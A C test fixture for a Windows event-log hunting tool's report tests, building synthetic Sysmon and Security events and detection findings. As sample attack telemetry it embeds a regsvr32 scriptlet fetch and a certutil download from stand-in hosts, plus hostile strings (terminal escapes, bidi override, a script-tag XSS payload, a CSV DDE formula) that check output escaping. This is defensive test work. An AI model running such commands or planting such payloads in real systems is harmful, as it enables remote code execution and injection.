/*
 * report_fixture.h -- a synthetic scan for the report tests (check_report,
 * report-sample): three hosts with different telemetry (full Sysmon;
 * 4688 with command lines; 4688 template 0 without), a process tree with
 * network and image loads, log clears, a record-id gap, damaged, empty
 * and unreadable files, and findings whose strings are hostile (terminal
 * escapes, OSC, bidi overrides, CSV formulas, "</script>", invalid
 * UTF-8).  Events go through ev_normalise() as a reader's would, then
 * corr_build().  Everything is deterministic.
 */
#ifndef REPORT_FIXTURE_H
#define REPORT_FIXTURE_H

#include <stdarg.h>
#include <stdlib.h>
#include <string.h>

#include "base_events.h"
#include "baseline/baseline.h"
#include "correlate.h"
#include "ev_arena.h"
#include "event.h"
#include "findings.h"
#include "ingest.h"
#include "report/report.h"

#define FX_SEC		10000000ULL
#define FX_T0		132223104000000000ULL	/* 2020-01-01T00:00:00Z */
#define FX_MAXEV	64

/* Hostile strings the tests look for in every format. */
#define FX_ESC_CMD	"mshta.exe \"javascript:a=1\x1b[2J\x1b]0;owned\x07" \
			"\xe2\x80\xae" "exe.gpj\" </script><script>alert(1)" \
			"</script> \xff\xfe bad"
#define FX_FORMULA_CMD	"=cmd|' /C calc'!A0"
#define FX_EVIL_HOST	"EVIL\x1b]8;;http://x/\x07HOST"

struct fx {
	struct ev_arena		 arena;
	struct ev_event		*ev[FX_MAXEV];
	size_t			 nev;
	struct ingest_file	 files[4];
	struct evtx_gap		 gap;
	struct ingest_run	 run;
	struct corr		*corr;
	struct finding_reason	 reasons[8];
	struct finding		 findings[8];
	struct findings		 fs;		/* the groups */
	struct base_config	*watch;		/* rules/watched.yml */
	struct report		 rep;
};

enum { FX_F_SEC, FX_F_SYSMON, FX_F_EMPTY, FX_F_BAD };

static struct ev_event *
fx_event(struct fx *fx, uint32_t file, const char *provider,
    const char *channel, uint32_t id, uint8_t version, const char *computer,
    uint64_t secs, uint64_t recid, ...)
{
	struct ev_pair pairs[TEV_MAXPAIRS];
	struct ev_record rec;
	struct ev_event *ev;
	va_list ap;
	uint32_t n;

	memset(&rec, 0, sizeof(rec));
	va_start(ap, recid);
	n = tev_pairs(pairs, ap);
	va_end(ap);
	rec.record_id = recid;
	rec.time = FX_T0 + secs * FX_SEC + recid % 7;
	rec.event_id = id;
	rec.version = version;
	rec.provider = provider;
	rec.channel = channel;
	rec.computer = computer;
	rec.kind = ev_classify(provider, strlen(provider), id);
	rec.data = pairs;
	rec.ndata = n;
	ev = ev_arena_calloc(&fx->arena, sizeof(*ev));
	if (ev == NULL || ev_normalise(&rec, &fx->arena, ev) != 0 ||
	    fx->nev == FX_MAXEV)
		abort();
	ev->file_id = file;
	ev->seq = (uint32_t)fx->nev;
	fx->ev[fx->nev++] = ev;
	return ev;
}

#define SYSMON(fx, id, comp, s, rec, ...) fx_event((fx), FX_F_SYSMON, \
	EV_PROVIDER_SYSMON, "Microsoft-Windows-Sysmon/Operational", (id), 5, \
	(comp), (s), (rec), __VA_ARGS__, NULL)
#define SEC(fx, id, ver, comp, s, rec, ...) fx_event((fx), FX_F_SEC, \
	EV_PROVIDER_SECURITY, "Security", (id), (ver), (comp), (s), (rec), \
	__VA_ARGS__, NULL)

static void
fx_reason(struct fx *fx, size_t k, bool baseline, int level, const char *title,
    const char *id, const char *tags, const char *details, double score)
{
	fx->reasons[k] = (struct finding_reason){ .baseline = baseline,
	    .level = level, .title = title, .rule_id = id,
	    .rule_path = baseline ? NULL : "rules/proxy_exec.yml",
	    .tags = tags, .details = details, .score = score };
}

/* Explanations of rule reasons (sigma_explain()'s, as findings keep them). */
static const char *const fx_refs[] = { "https://attack.mitre.org/"
    "techniques/T1218/005/", "https://example.org/a?b=1&c=<2>" };
static const char *const fx_fps[] = { "Intranet HTA tools", "none \x1b[1m" };
static const struct finding_match fx_mshta_m[] = {
	{ "selection_img", "Image", "endswith", "\\mshta.exe", NULL,
	    "\\mshta.exe", false },
	{ "selection_cmd", "CommandLine", "contains|all", "javascript:",
	    NULL, "javascript:a=1\x1b[2J\x1b]0;owned\x07\xe2\x80\xae", false },
};
static const struct finding_match fx_cert_m[] = {
	{ "keywords", NULL, "", "urlcache", "CommandLine", "urlcache", false },
};
static const struct finding_match fx_rundll_m[] = {
	{ "=HYPERLINK(\"http://x\")", "CommandLine", "re", "^rundll32[^,]*$",
	    NULL, "rundll32.exe </script>", false },
	{ "known_dll", "CommandLine", "contains", NULL, NULL,
	    "=cmd|' /C calc'!A0", true },
};

static void
fx_explain(struct fx *fx)
{
	struct finding_reason *r = &fx->reasons[2];

	r->description = "mshta.exe running inline script: <b>x</b> & \"y\"";
	r->references = fx_refs;
	r->nreferences = 2;
	r->falsepositives = fx_fps;
	r->nfalsepositives = 2;
	r->matched = fx_mshta_m;
	r->nmatched = 2;
	fx->reasons[4].matched = fx_cert_m;
	fx->reasons[4].nmatched = 1;
	fx->reasons[3].matched = fx_rundll_m;
	fx->reasons[3].nmatched = 2;
}

/* Builds the scan; abort()s on failure (a broken fixture, not a test). */
static void
fx_build(struct fx *fx, bool all_events, const char *format, bool color)
{
	static const char *const reason_names[] = { "unsupported logsource",
	    "pipe (count)" };
	static const size_t reason_counts[] = { 3, 1 };
	static const char *const unbaselined[] = { "msbuild.exe" };
	struct ev_event *regsvr, *mshta, *rundll, *cert, *cert2, *load, *cmd;
	struct ev_err err = EV_ERR_INIT;
	const char *W = "WS01.corp.example", *S = "SRV02", *L = "LEGACY03";

	memset(fx, 0, sizeof(*fx));
	ev_arena_init(&fx->arena);

	/* output order: time, then path, then record id */
	SEC(fx, 4688, 0, L, 1, 501, "NewProcessId", "0x1f4", "NewProcessName",
	    "C:\\Windows\\System32\\svchost.exe", "ProcessId", "0x270");
	SYSMON(fx, 1, W, 2, 1001, "ProcessGuid", "{11111111-0000-0000-0000-"
	    "000000000001}", "ProcessId", "800", "Image",
	    "C:\\Windows\\explorer.exe", "CommandLine",
	    "C:\\Windows\\Explorer.EXE", "User", "CORP\\alice",
	    "ParentProcessGuid", "{11111111-0000-0000-0000-000000000000}",
	    "ParentProcessId", "700", "ParentImage",
	    "C:\\Windows\\System32\\userinit.exe");
	cmd = SYSMON(fx, 1, W, 10, 1002, "ProcessGuid", "{11111111-0000-0000-"
	    "0000-000000000002}", "ProcessId", "1200", "Image",
	    "C:\\Windows\\System32\\cmd.exe", "CommandLine", "cmd.exe /c "
	    "\"regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll\"",
	    "User", "CORP\\alice", "IntegrityLevel", "Medium",
	    "ParentProcessGuid", "{11111111-0000-0000-0000-000000000001}",
	    "ParentProcessId", "800", "ParentImage", "C:\\Windows\\explorer.exe",
	    "ParentCommandLine", "C:\\Windows\\Explorer.EXE");
	(void)cmd;
	regsvr = SYSMON(fx, 1, W, 12, 1003, "ProcessGuid", "{11111111-0000-"
	    "0000-0000-000000000003}", "ProcessId", "4242", "Image",
	    "C:\\Windows\\System32\\regsvr32.exe", "OriginalFileName",
	    "REGSVR32.EXE", "CommandLine", "regsvr32 /s /n /u "
	    "/i:http://evil.example/x.sct scrobj.dll", "User", "CORP\\alice",
	    "IntegrityLevel", "Medium", "Hashes", "SHA256=0123456789ABCDEF"
	    "0123456789ABCDEF0123456789ABCDEF0123456789ABCDEF,IMPHASH=00",
	    "ParentProcessGuid", "{11111111-0000-0000-0000-000000000002}",
	    "ParentProcessId", "1200", "ParentImage",
	    "C:\\Windows\\System32\\cmd.exe", "ParentCommandLine", "cmd.exe /c "
	    "\"regsvr32 /s /n /u /i:http://evil.example/x.sct scrobj.dll\"");
	SYSMON(fx, 3, W, 13, 1004, "ProcessGuid", "{11111111-0000-0000-0000-"
	    "000000000003}", "ProcessId", "4242", "Image",
	    "C:\\Windows\\System32\\regsvr32.exe", "Protocol", "tcp",
	    "Initiated", "true", "SourceIp", "10.0.0.5", "SourcePort", "49722",
	    "DestinationIp", "203.0.113.7", "DestinationHostname",
	    "evil.example", "DestinationPort", "80");
	SYSMON(fx, 7, W, 13, 1005, "ProcessGuid", "{11111111-0000-0000-0000-"
	    "000000000003}", "ProcessId", "4242", "Image",
	    "C:\\Windows\\System32\\regsvr32.exe", "ImageLoaded",
	    "C:\\Windows\\System32\\scrobj.dll", "Signed", "true",
	    "Signature", "Microsoft Windows");
	load = SYSMON(fx, 7, W, 14, 1006, "ProcessGuid", "{11111111-0000-0000-"
	    "0000-000000000003}", "ProcessId", "4242", "Image",
	    "C:\\Windows\\System32\\regsvr32.exe", "ImageLoaded",
	    "C:\\Users\\alice\\AppData\\Local\\Temp\\x.dll", "Signed", "false");
	mshta = SYSMON(fx, 1, W, 20, 1007, "ProcessGuid", "{11111111-0000-0000-"
	    "0000-000000000004}", "ProcessId", "5150", "Image",
	    "C:\\Windows\\System32\\mshta.exe", "CommandLine", FX_ESC_CMD,
	    "User", "CORP\\alice\xe2\x80\x8f", "ParentProcessGuid",
	    "{11111111-0000-0000-0000-000000000001}", "ParentProcessId", "800",
	    "ParentImage", "C:\\Windows\\explorer.exe");
	SEC(fx, 4688, 2, S, 25, 7001, "NewProcessId", "0x9c4",
	    "NewProcessName", "C:\\Windows\\System32\\cmd.exe", "CommandLine",
	    "cmd.exe /c certutil", "ProcessId", "0x3e8", "ParentProcessName",
	    "C:\\Windows\\System32\\services.exe", "SubjectUserSid", "S-1-5-18",
	    "SubjectUserName", "SRV02$", "SubjectDomainName", "CORP",
	    "TargetUserSid", "S-1-0-0", "MandatoryLabel", "S-1-16-16384");
	cert = SEC(fx, 4688, 2, S, 26, 7002, "NewProcessId", "0xa10",
	    "NewProcessName", "C:\\Windows\\System32\\certutil.exe",
	    "CommandLine", "certutil.exe -urlcache -split -f "
	    "http://203.0.113.9/a/very/long/path/that/goes/on/and/on/to/make/"
	    "this/command/line/wrap/over/several/lines/of/the/text/report/"
	    "payload.bin C:\\ProgramData\\payload.bin", "ProcessId", "0x9c4",
	    "ParentProcessName", "C:\\Windows\\System32\\cmd.exe",
	    "SubjectUserSid", "S-1-5-18", "SubjectUserName", "SRV02$",
	    "SubjectDomainName", "CORP", "TargetUserSid", "S-1-0-0",
	    "MandatoryLabel", "S-1-16-16384");
	/* the same download again: an identical finding, grouped */
	cert2 = SEC(fx, 4688, 2, S, 27, 7004, "NewProcessId", "0xa14",
	    "NewProcessName", "C:\\Windows\\System32\\certutil.exe",
	    "CommandLine", "certutil.exe -urlcache -split -f "
	    "http://203.0.113.9/a/very/long/path/that/goes/on/and/on/to/make/"
	    "this/command/line/wrap/over/several/lines/of/the/text/report/"
	    "payload.bin C:\\ProgramData\\payload.bin", "ProcessId", "0x9c4",
	    "ParentProcessName", "C:\\Windows\\System32\\cmd.exe",
	    "SubjectUserSid", "S-1-5-18", "SubjectUserName", "SRV02$",
	    "SubjectDomainName", "CORP", "TargetUserSid", "S-1-0-0",
	    "MandatoryLabel", "S-1-16-16384");
	rundll = SYSMON(fx, 1, W, 30, 1008, "ProcessGuid", "{11111111-0000-"
	    "0000-0000-000000000005}", "ProcessId", "6000", "Image",
	    "C:\\Windows\\System32\\rundll32.exe", "CommandLine",
	    FX_FORMULA_CMD, "User", "@SUM(1+1)", "ParentProcessGuid",
	    "{11111111-0000-0000-0000-000000000001}", "ParentProcessId", "800",
	    "ParentImage", "C:\\Windows\\explorer.exe");
	SYSMON(fx, 5, W, 40, 1009, "ProcessGuid", "{11111111-0000-0000-0000-"
	    "000000000003}", "ProcessId", "4242", "Image",
	    "C:\\Windows\\System32\\regsvr32.exe");
	SEC(fx, 4688, 0, L, 50, 502, "NewProcessId", "0x1f8", "NewProcessName",
	    "C:\\Windows\\System32\\regsvr32.exe", "ProcessId", "0x1f4");
	fx_event(fx, FX_F_SEC, EV_PROVIDER_EVENTLOG, "Security", 1102, 0, S,
	    60, 7003, "SubjectUserSid", "S-1-5-21-1-2-3-1104",
	    "SubjectUserName", "mallory", "SubjectDomainName", "CORP",
	    "SubjectLogonId", "0x3e7", NULL);
	fx_event(fx, FX_F_SEC, EV_PROVIDER_EVENTLOG, "System", 104, 0,
	    FX_EVIL_HOST, 61, 9001, "SubjectUserName", "root\x1b[31m",
	    "SubjectDomainName", "EVIL", "Channel", "Microsoft-Windows-"
	    "Sysmon/Operational", NULL);

	fx->files[FX_F_SEC] = (struct ingest_file){ .id = FX_F_SEC,
	    .path = "evidence/Security.evtx", .size = 1118208,
	    .status = INGEST_DAMAGED, .message = "chunk 3: bad CRC" };
	fx->files[FX_F_SEC].stats.records = 1290;
	fx->files[FX_F_SEC].stats.recovered = 2;
	fx->files[FX_F_SEC].stats.bad_chunks = 1;
	fx->files[FX_F_SEC].stats.events = 6;
	fx->files[FX_F_SEC].stats.chunks = 17;
	fx->files[FX_F_SEC].stats.dirty = true;
	fx->gap = (struct evtx_gap){ 6990, 7001, FX_T0 + 24 * FX_SEC,
	    FX_T0 + 25 * FX_SEC };
	fx->files[FX_F_SEC].stats.gaps = &fx->gap;
	fx->files[FX_F_SEC].stats.ngaps = 1;
	fx->files[FX_F_SYSMON] = (struct ingest_file){ .id = FX_F_SYSMON,
	    .path = "evidence/Sysmon.evtx", .size = 69632,
	    .status = INGEST_OK };
	fx->files[FX_F_SYSMON].stats.records = 9;
	fx->files[FX_F_SYSMON].stats.events = 9;
	fx->files[FX_F_SYSMON].stats.chunks = 1;
	fx->files[FX_F_EMPTY] = (struct ingest_file){ .id = FX_F_EMPTY,
	    .path = "evidence/empty.evtx", .size = 69632,
	    .status = INGEST_EMPTY };
	fx->files[FX_F_BAD] = (struct ingest_file){ .id = FX_F_BAD,
	    .path = "evidence/notes\x1b[8m.evtx", .size = 12,
	    .status = INGEST_UNREADABLE, .message = "not an EVTX file" };
	fx->run.files = fx->files;
	fx->run.nfiles = 4;
	fx->run.events = fx->ev;
	fx->run.nevents = fx->nev;
	fx->run.records = 1299;
	fx->run.recovered = 2;
	fx->run.bad_records = 0;
	fx->run.duplicates = 1;
	fx->run.bytes = 1118208 + 69632 * 2 + 12;
	if (corr_build(fx->ev, fx->nev, &fx->corr, &err) != 0)
		abort();

	fx_reason(fx, 0, false, EV_LEVEL_HIGH, "Regsvr32 remote scriptlet "
	    "(Squiblydoo)", "9b0e7c1a-3f52-4c1e-8a57-3d3f0b7e2a10",
	    "attack.defense-evasion attack.t1218.010", NULL, 0);
	fx_reason(fx, 1, true, EV_LEVEL_MEDIUM, "regsvr32.exe: new argument "
	    "shape", "baseline:args", "attack.t1218.010", "argument "
	    "`/i:<url:http>` never seen in 4,210 prior invocations on 37 hosts",
	    12.5);
	fx_reason(fx, 2, false, EV_LEVEL_CRITICAL, "Mshta with javascript: "
	    "</script><b>x</b>", "5d0c2a8e-1b7f-4e0d-9c3a-6a1e2f4b8c01",
	    "attack.t1218.005 attack.t1218.005 attack.execution", NULL, 0);
	fx_reason(fx, 3, false, EV_LEVEL_MEDIUM, "Rundll32 without DLL "
	    "=HYPERLINK(\"http://x\")", "2c4e6a80-9b1d-4f3e-8a5c-7d9e0f1a2b3c",
	    "attack.t1218.011", NULL, 0);
	fx_reason(fx, 4, false, EV_LEVEL_HIGH, "Certutil download",
	    "7e8f9a0b-1c2d-4e3f-8a4b-5c6d7e8f9a0b",
	    "attack.command-and-control attack.t1105", NULL, 0);
	fx_reason(fx, 5, true, EV_LEVEL_LOW, "regsvr32.exe: module never loaded "
	    "before", "baseline:module", NULL, "module `<user-temp>\\*.dll` "
	    "never seen in 4,210 prior invocations", 4.25);
	fx_explain(fx);
	fx->findings[0] = (struct finding){ regsvr, &fx->reasons[0], 2,
	    EV_LEVEL_HIGH, 0 };
	fx->findings[1] = (struct finding){ load, &fx->reasons[5], 1,
	    EV_LEVEL_LOW, 0 };
	fx->findings[2] = (struct finding){ mshta, &fx->reasons[2], 1,
	    EV_LEVEL_CRITICAL, 0 };
	fx->findings[3] = (struct finding){ cert, &fx->reasons[4], 1,
	    EV_LEVEL_HIGH, 0 };
	fx->findings[4] = (struct finding){ cert2, &fx->reasons[4], 1,
	    EV_LEVEL_HIGH, 0 };
	fx->findings[5] = (struct finding){ rundll, &fx->reasons[3], 1,
	    EV_LEVEL_MEDIUM, 0 };
	/* grouped as scan groups them (findings.c); v stays the fixture's */
	findings_init(&fx->fs);
	fx->fs.v = fx->findings;
	fx->fs.n = 6;
	if (findings_group(&fx->fs, FINDINGS_GROUP_EXACT, 2) != 0)
		abort();
	fx->fs.v = NULL;
	fx->fs.n = 0;

	fx->watch = NULL;
	if (base_config_load(base_config_default_path(), &fx->watch,
	    &(struct ev_err)EV_ERR_INIT) != 0)
		abort();

	fx->rep.run = &fx->run;
	fx->rep.corr = fx->corr;
	fx->rep.watch = fx->watch;
	fx->rep.findings = fx->findings;
	fx->rep.nfindings = 6;
	fx->rep.groups = fx->fs.groups;
	fx->rep.ngroups = fx->fs.ngroups;
	fx->rep.grouping = "command line";
	fx->rep.rules.loaded = 42;
	fx->rep.rules.skipped = 3;
	fx->rep.rules.rejected = 1;
	fx->rep.rules.sha256 = "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b"
	    "934ca495991b7852b855";
	fx->rep.rules.reason_names = reason_names;
	fx->rep.rules.reason_counts = reason_counts;
	fx->rep.rules.nreasons = 2;
	fx->rep.baseline = "self";
	fx->rep.unbaselined = unbaselined;
	fx->rep.nunbaselined = 1;
	fx->rep.suppressed = (struct findings_drop){ 1, 2 };
	fx->rep.below = (struct findings_drop){ 3, 4 };
	fx->rep.version = "evtxhunt 0.1.0";
	fx->rep.command = "evtxhunt scan -f x evidence";
	fx->rep.opts.format = format;
	fx->rep.opts.color = color;
	fx->rep.opts.width = 100;
	fx->rep.opts.all_events = all_events;
	fx->rep.opts.min_level = 0;
}

static void
fx_release(struct fx *fx)
{
	corr_free(fx->corr);
	base_config_free(fx->watch);
	findings_release(&fx->fs);
	ev_arena_release(&fx->arena);
}

#endif
